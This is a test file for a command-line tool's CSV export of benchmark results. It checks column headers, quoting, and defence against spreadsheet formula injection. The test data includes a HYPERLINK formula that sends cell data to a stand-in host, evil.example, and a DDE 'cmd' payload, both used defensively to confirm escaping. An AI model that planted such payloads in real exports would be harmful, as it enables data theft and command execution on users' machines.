import { describe, expect, test } from 'vitest';
import { csvHeader, csvRow, scoreColumns } from '../../../../cli/render/csv.ts';
import { result } from '../../../support/rpc.ts';

describe('CSV', () => {
  test('has a column for each scorer, and quotes what needs it', () => {
    expect(csvHeader(['match', 'f1'])).toBe(
      'unit,benchmark,model,sample_id,epoch,state,score_match,score_f1,completion,reasoning,error_class,error_message,input_tokens,output_tokens,retries,stop_reason,model_ms,total_ms,agent_id\r\n',
    );
    expect(csvRow(result(4, { completion: 'a "b",\nc', sampleId: ' x' }), ['match', 'f1'])).toBe(
      '4,b,m," x",1,scored,C,,"a ""b"",\nc",,,,10,20,0,stop,12.5,13,ag_0000000000000001\r\n',
    );
  });
});

test.each([
  ['=HYPERLINK("http://evil.example/?"&A1)', `"'=HYPERLINK(""http://evil.example/?""&A1)"`],
  ['+1+cmd|" /C calc"!A0', `"'+1+cmd|"" /C calc""!A0"`],
  ['- a list', `'- a list`],
  ['-1+1', `'-1+1`],
  ['@SUM(A1)', `'@SUM(A1)`],
  ['\t=1', `'\t=1`],
  ['\r=1', `"'\r=1"`],
  ['＝1+1', `'＝1+1`],
  ['a = b', 'a = b'],
  ["'quoted'", "'quoted'"],
  ['-1', '-1'],
  ['+2.5e-3', '+2.5e-3'],
  ['-.5', '-.5'],
  ['-', `'-`],
  ['', ''],
])('what a spreadsheet would take for a formula is text, and numbers are numbers: %j', (text, cell) => {
  const scores = [{ scorer: 'match', value: text, number: 1, answer: '', explanation: '', error: '' }];
  const texts = { completion: text, reasoning: text, sampleId: text, errorMessage: text };
  const row = csvRow(result(1, { ...texts, scores, modelMs: -12.5 }), ['match']);
  expect(row).toBe(`1,b,m,${cell},1,scored,${cell},${cell},${cell},,${cell},10,20,0,stop,-12.5,13,ag_0000000000000001\r\n`);
});

test('a scorer that a benchmark has twice has two columns', () => {
  expect(
    scoreColumns([
      ['match', 'f1', 'match#2'],
      ['f1', 'match', 'f1#2'],
    ]),
  ).toEqual(['match', 'f1', 'match#2', 'f1#2']);
  const score = (scorer: string, value: string) => ({ scorer, value, number: 1, answer: '', explanation: '', error: '' });
  const row = csvRow(result(1, { scores: [score('match', 'first'), score('match#2', 'second')] }), ['match', 'f1', 'match#2']);
  expect(row.split(',').slice(6, 9)).toEqual(['first', '', 'second']);
});

test('the name of a chain of filters is part of its column', () => {
  expect(csvHeader(['exact_match,strict-match'])).toContain(',state,"score_exact_match,strict-match",completion,');
});
